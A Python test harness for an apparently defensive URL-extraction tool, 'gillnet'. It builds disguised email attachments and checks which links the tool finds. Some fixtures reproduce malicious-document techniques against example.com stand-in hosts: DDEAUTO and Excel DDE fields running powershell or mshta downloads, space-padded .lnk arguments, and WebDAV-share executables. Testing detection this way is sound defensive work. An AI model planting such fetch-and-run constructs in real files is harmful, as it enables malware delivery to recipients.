#!/usr/bin/env python3
"""Links of attached files: office documents, scripts, shortcuts, text in odd forms.

Usage: links_of_files.py --gillnet PROGRAM [--show]
Each case is a file built here, laid out as Word, Excel, LibreOffice and Windows write them, with the
features that it must have and the words that no feature may have.  Exit status: 0 all as wanted, 1 not.
"""
import argparse
import base64
import email.message
import hashlib
import io
import json
import pathlib
import struct
import subprocess
import sys
import tempfile
import zipfile

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SAME = {  # what every file has
    "[Content_Types].xml": XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "_rels/.rels": XML + f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                         f'<Relationship Id="rId1" Type="{RELS}/officeDocument" Target="word/document.xml"/></Relationships>',
    "docProps/app.xml": XML + "<Properties><Application>Microsoft Office Word</Application><Company>www.company.example.com"
                              "</Company></Properties>",
    "word/settings.xml": XML + f'<w:settings {W}><w:schema w:val="http://settings.example.com/x"/></w:settings>',
    "word/styles.xml": XML + f'<w:styles {W}/>',
    "word/theme/theme1.xml": XML + '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"/>',
}


def rels(*rows):
    """A part of relations of rows (type, target, is external)."""
    body = "".join(f'<Relationship Id="rId{i}" Type="{RELS}/{kind}" Target="{target}"'
                   f'{" TargetMode=" + chr(34) + "External" + chr(34) if outside else ""}/>'
                   for i, (kind, target, outside) in enumerate(rows))
    return XML + f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'


def run(text):
    return f'<w:r><w:rPr><w:rFonts w:ascii="Arial"/><w:b/></w:rPr><w:t xml:space="preserve">{text}</w:t></w:r>'


def char(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def code(text):
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def field(*codes, result="here"):
    return char("begin") + "".join(codes) + char("separate") + run(result) + char("end")


def packed(parts, first=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        if first:
            z.writestr(zipfile.ZipInfo(first[0]), first[1])
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


def docx(*paragraphs, **more):
    """more: parts besides, "/" written as "__" and "." as "_dot_"; raw ones through parts={...}."""
    body = "".join(f'<w:p w:rsidR="00A77427">{p}</w:p>' for p in paragraphs)
    parts = dict(SAME)
    parts["word/document.xml"] = XML + f'<w:document {W} {R}><w:body>{body}</w:body></w:document>'
    parts.update(more.get("parts", {}))
    return packed(parts)


def xlsx(cells, parts=None, strings=""):
    all_parts = {k: v for k, v in SAME.items() if not k.startswith("word/")}
    all_parts["xl/workbook.xml"] = XML + '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    all_parts["xl/sharedStrings.xml"] = XML + f'<sst count="2">{strings}</sst>'
    all_parts["xl/worksheets/sheet1.xml"] = XML + f'<worksheet><sheetData><row r="1">{cells}</row></sheetData></worksheet>'
    all_parts["xl/worksheets/sheet2.xml"] = XML + '<worksheet><sheetData/></worksheet>'
    all_parts.update(parts or {})
    return packed(all_parts)


def opendocument(kind, content, parts=None):
    ns = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
          'xmlns:rpt="http://openoffice.org/2005/report"')
    all_parts = {
        "content.xml": XML + f'<office:document-content {ns}><office:body>{content}</office:body></office:document-content>',
        "settings.xml": XML + f'<office:document-settings {ns}><config:config-item>http://settings.example.com/</config:config-item>'
                              '</office:document-settings>',
        "meta.xml": XML + f'<office:document-meta {ns}><meta:template xlink:href="http://template.example.com/t.ott"/>'
                          '</office:document-meta>',
        "META-INF/manifest.xml": XML + '<manifest/>',
    }
    all_parts.update(parts or {})
    return packed(all_parts, ("mimetype", f"application/vnd.oasis.opendocument.{kind}"))


def shortcut(arguments, target="C:\\Windows\\System32\\cmd.exe", wide=True):
    """Header, no list of items, a relative path and arguments."""
    flags = 0x08 | 0x20 | (0x80 if wide else 0)
    header = struct.pack("<I16sII", 0x4C, bytes.fromhex("0114020000000000c000000000000046"), flags, 0x20)
    header += bytes(0x4C - len(header))
    encode = (lambda s: s.encode("utf-16-le")) if wide else (lambda s: s.encode("latin-1"))
    return header + b"".join(struct.pack("<H", len(s)) + encode(s) for s in (target, arguments)) + bytes(4)


def sha(data):
    return "attachment:" + hashlib.sha256(data if isinstance(data, bytes) else data.encode()).hexdigest()


PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
U = "url:"


def office_cases():
    yield "field of one run", "a.docx", docx(field(code(' HYPERLINK "http://a1.example.com/x" \\o "http://no.example.com/" '))), \
        [U + "a1.example.com/x"], ["no.example.com", "schemas"]
    yield "field over runs", "a.docx", docx(field(code(" HYPER"), code('LINK "http://a2.exa'), code('mple.com/x" \\t "_blank"'))), \
        [U + "a2.example.com/x"], []
    yield "anchor", "a.docx", docx(field(code(' HYPERLINK \\l "http://no.example.com" '))), [], ["no.example.com"]
    yield "anchor of a page", "a.docx", docx(field(code(' HYPERLINK  \\l "top" "http://a3.example.com/x" '))), \
        [U + "a3.example.com/x"], []
    yield "simple field", "a.docx", docx('<w:fldSimple w:instr=" HYPERLINK &quot;http://a4.example.com/x&quot; ">'
                                         f'{run("x")}</w:fldSimple>'), [U + "a4.example.com/x"], []
    yield "nested field", "a.docx", docx(char("begin") + code(' INCLUDEPICTURE \\d "http://') + field(code("MERGEFIELD x"),
          result="a5.example.com") + code('/x.png" ') + char("end")), [U + "a5.example.com/x.png"], []
    yield "dde", "a.docx", docx(field(code(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k powershell -c '
                                           'iwr http://a6.example.com/x.ps1" '))), [U + "a6.example.com/x.ps1"], []
    yield "other prefix", "a.docx", packed({**SAME, "word/document.xml": '<x:document xmlns:x="http://purl.oclc.org/ooxml/main">'
          '<x:body><x:p><x:r><x:instrText>HYPERLINK http://a7.example.com/x</x:instrText></x:r></x:p></x:body></x:document>'}), \
        [U + "a7.example.com/x"], ["oclc"]
    yield "text over runs", "a.docx", docx(run("see http://a8.exa") + '<w:proofErr w:type="spellStart"/>' + run("mple.com/x") +
          run(" now"), run("example.com/y")), [U + "a8.example.com/x"], ["x/", "example.com/xexample"]
    yield "relations", "a.docx", docx(run("no link in this text"), parts={"word/_rels/document.xml.rels": rels(
        ("hyperlink", "http://a9.example.com/x", True), ("styles", "styles.xml", False),
        ("image", "http://b1.example.com/i.png?a=1&amp;b=2", True), ("oleObject", "file:///\\\\b2.example.com\\s\\o.rtf", True),
        ("frame", "mhtml:http://b3.example.com/f.html!x-usc:http://b3.example.com/f.html", True),
        ("hyperlink", "\\\\intranet\\share", True), ("hyperlink", "file:///C:/www.example.com/x", True),
        ("image", "http://no.example.com/x", False)), "word/_rels/settings.xml.rels": rels(
        ("attachedTemplate", "https://b4.example.com/t.dotm", True))}), \
        [U + "a9.example.com/x", U + "b1.example.com/i.png?a=1&b=2", U + "b2.example.com/s/o.rtf", U + "b3.example.com/f.html",
         U + "b4.example.com/t.dotm"], ["intranet", "no.example.com", "www.example.com", "schemas"]
    document = docx(run("A text of this document alone."), parts={
        "word/media/image1.png": PNG, "word/embeddings/Invoice.exe": b"MZ own", "word/header1.xml":
        XML + f"<w:hdr {W}><w:p>{run('http://b5.example.com/x')}</w:p></w:hdr>"})
    with zipfile.ZipFile(io.BytesIO(document)) as z:
        text = z.read("word/document.xml")
    yield "what is an attachment", "a.docx", document, \
        [sha(text), sha(PNG), sha(b"MZ own"), "archive_entry:invoice.exe", U + "b5.example.com/x"], \
        [sha(SAME[name]) for name in SAME] + ["archive_entry:document.xml", "archive_entry:settings.xml", "archive_entry:image1.png",
                                              "settings.example.com", "company.example.com"]
    yield "plain zip", "a.zip", packed({"word/settings.xml": "own text"}), [sha("own text"), "archive_entry:settings.xml"], []
    yield "shared strings", "a.xlsx", xlsx('<c t="s"><v>0</v></c>', strings="<si><r><t>http://b6.exa</t></r><r><t>mple.com/x</t></r></si>"
          "<si><t>www.b7.example.com</t></si>"), [U + "b6.example.com/x", "url_host:www.b7.example.com"], []
    yield "cells", "a.xlsx", xlsx('<c t="inlineStr"><is><t>http://b8.example.com/x</t></is></c>'
                                  '<c t="str"><f>HYPERLINK("http://b9."&amp;"example.com/x","go")</f><v>go</v></c>'
                                  '<c><f>HYPERLINK("http://no.example.com/"&amp;A1)</f></c>'), \
        [U + "b8.example.com/x", U + "b9.example.com/x"], [U + "no.example.com/"]
    sheet2 = XML + '<worksheet><sheetData/></worksheet>'
    yield "empty sheet", "a.xlsx", xlsx("", {"xl/printerSettings/printerSettings1.bin": b"printer"}), [], [sha(sheet2), sha(b"printer")]
    yield "dde of a book", "a.xlsm", xlsx("", {"xl/externalLinks/externalLink1.xml":
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c mshta http://c1.example.com/x.hta"/></externalLink>',
          "xl/connections.xml": '<connections><webPr url="http://c2.example.com/q.iqy"/></connections>'}), \
        [U + "c1.example.com/x.hta", U + "c2.example.com/q.iqy"], []
    yield "slides", "a.ppsx", packed({**SAME, "ppt/slides/slide1.xml": '<p:sld xmlns:a="http://schemas.openxmlformats.org/a">'
          "<a:p><a:r><a:t>http://c3.exam</a:t></a:r><a:r><a:rPr/><a:t>ple.com/x</a:t></a:r></a:p></p:sld>",
          "ppt/slides/_rels/slide1.xml.rels": rels(("hyperlink", "http://c4.example.com/x", True))}), \
        [U + "c3.example.com/x", U + "c4.example.com/x"], ["schemas"]
    yield "writer", "a.odt", opendocument("text", '<text:p>see <text:a xlink:href="http://c5.example.com/x">c</text:a> '
          'http://c6.<text:span>example.com/x</text:span><text:s/>y</text:p><draw:image xlink:href="Pictures/1.png"/>'), \
        [U + "c5.example.com/x", U + "c6.example.com/x", U + "template.example.com/t.ott"], ["settings.example", "w3.org", "openoffice"]
    yield "calc", "a.ods", opendocument("spreadsheet", '<table:table-cell table:formula="of:=HYPERLINK(&quot;http://c7.example.com/x'
          '&quot;;&quot;a&quot;)"><text:p>a</text:p></table:table-cell>'), [U + "c7.example.com/x"], []
    yield "document in a zip", "a.zip", packed({"in/a.docx": docx(run("http://c8.example.com/x"))}), \
        [U + "c8.example.com/x", "archive_entry:a.docx"], ["archive_entry:document.xml"]


def script_cases():
    yield "script", "a.js", b"var a='htt'+'p://d1.example.com/x';var b='http://no.example.com/'+c; // \r\nrun('evil/')", \
        [U + "d1.example.com/x", "url_host:no.example.com"], [U + "no.example.com/", "evil"]
    yield "script in a zip", "a.zip", packed({"x.vbs": 'u = "http://" & "d2." & _\r\n"example.com/x" \' "\r\n'}), \
        [U + "d2.example.com/x"], []
    yield "script in UTF-16", "a.ps1", "iwr ('http' + '://d3.example.com/x')".encode("utf-16"), [U + "d3.example.com/x"], []
    yield "host file", "a.wsf", b'<job><script language="VBScript"><![CDATA[u = "http://d4" & ".example.com/x"]]></script></job>', \
        [U + "d4.example.com/x"], []
    yield "batch", "a.cmd", b"@echo off\r\nstart http://d5.example.com/x\r\ncopy \\\\d6.example.com@SSL\\s\\x.exe %TEMP%\r\n", \
        [U + "d5.example.com/x", U + "d6.example.com/s/x.exe"], []
    yield "shortcut", "a.lnk", shortcut(" " * 5000 + "/c powershell iwr ('ht'+'tp://d7.example.com/x')"), [U + "d7.example.com/x"], []
    yield "shortcut in a zip", "a.zip", packed({"a.lnk": shortcut("mshta http://d8.example.com/x", wide=False)}), \
        [U + "d8.example.com/x"], []
    yield "shortcut to a share", "a.lnk", shortcut("", "\\\\d9.example.com\\s\\x.exe"), [U + "d9.example.com/s/x.exe"], []
    yield "internet shortcut", "a.url", b"[InternetShortcut]\r\nURL=http://e1.example.com/x\r\nIconFile=\\\\e2.example.com\\i\\x.ico\r\n", \
        [U + "e1.example.com/x", U + "e2.example.com/i/x.ico"], []
    yield "library", "a.library-ms", b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">' \
        b"<simpleLocation><url>\\\\e3.example.com@80\\s\\</url></simpleLocation></libraryDescription>", [U + "e3.example.com/s"], ["schemas"]
    yield "setting", "a.settingcontent-ms", b"<PCSettings><DeepLink><![CDATA[cmd /c start http://e4.example.com/x]]></DeepLink></PCSettings>", \
        [U + "e4.example.com/x"], []


def wide_cases():
    for name in ("utf-16-le", "utf-16-be"):
        yield name, "a.txt", "Guten Tag, http://f1.example.com/x ist hier.".encode(name), [U + "f1.example.com/x"], []
        yield name + " in Russian", "a.txt", ("\u0437\u0434\u0435\u0441\u044c " * 8 + "http://f8.example.com/x\u3000\u4e2d").encode(name), \
            [U + "f8.example.com/x"], []
    yield "NULs strewn in", "a.txt", b"He\0re: ht\0tp:/\0/f9.\0example\0.com/x", [U + "f9.example.com/x"], []


def message(name, data):
    m = email.message.EmailMessage()
    m["From"] = "a@b.example"
    m["Subject"] = "file"
    m.set_content("see attached")
    m.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return m.as_bytes()


def part(fields, body):
    return (f"From: a@b.example\nMIME-Version: 1.0\n{fields}\n\n").encode() + body


def message_cases():
    wide = base64.encodebytes("<a href='http://f2.example.com/x'>go</a> and so on".encode("utf-16-le"))
    for charset in ("", "; charset=us-ascii", "; charset=utf-16be", "; charset=utf-16le"):
        yield "HTML in UTF-16" + charset, part(f"Content-Type: text/html{charset}\nContent-Transfer-Encoding: base64", wide), \
            [U + "f2.example.com/x"], []
    yield "enriched", part("Content-Type: text/enriched", b"<bold>a</bold> http://f3<bold></bold>.exam<x-a>ple.com/x\n"
                           b"<param>http://f4.example.com/p</param> 1 <<2 http://f5.example.com/<nl>y"), \
        [U + "f3.example.com/x", U + "f4.example.com/p"], []
    yield "external body", part('Content-Type: message/external-body; access-type=URL;\n URL="http://f6.exam\n ple.com/x"',
                                b"Content-Type: text/plain\n\n"), [U + "f6.example.com/x"], []
    yield "external body by ftp", part('Content-Type: message/external-body; access-type=anon-ftp;\n site="f7.example.com"; '
                                       'directory="pub/x"; name="y.exe"', b"Content-Type: text/plain\n\n"), \
        [U + "f7.example.com/pub/x/y.exe"], []


def features(gillnet, text):
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder, "m.eml")
        path.write_bytes(text)
        out = subprocess.run([gillnet, "--json", "extract", str(path)], capture_output=True, text=True, check=True).stdout
    found = set()
    for line in out.splitlines():
        row = json.loads(line)
        for f in row.get("features", [row]):
            found.add(f"{f.get('type')}:{f.get('text', f.get('value'))}")
    return found


def main():
    options = argparse.ArgumentParser()
    options.add_argument("--gillnet", required=True)
    options.add_argument("--show", action="store_true")
    options = options.parse_args()
    cases = [(name, message(file, data), wanted, unwanted) for make in (office_cases, script_cases, wide_cases)
             for name, file, data, wanted, unwanted in make()] + list(message_cases())
    wrong = 0
    for name, text, wanted, unwanted in cases:
        found = features(options.gillnet, text)
        if options.show:
            print(name, sorted(found))
        faults = [f"no {w}" for w in wanted if w not in found]
        faults += [f"unwanted {f}" for u in unwanted for f in found if u in f]
        for fault in faults:
            print(f"{name}: {fault}")
        wrong += bool(faults)
    print(f"{len(cases)} files, {wrong} wrong")
    return 1 if wrong or len(cases) < 40 else 0


if __name__ == "__main__":
    sys.exit(main())
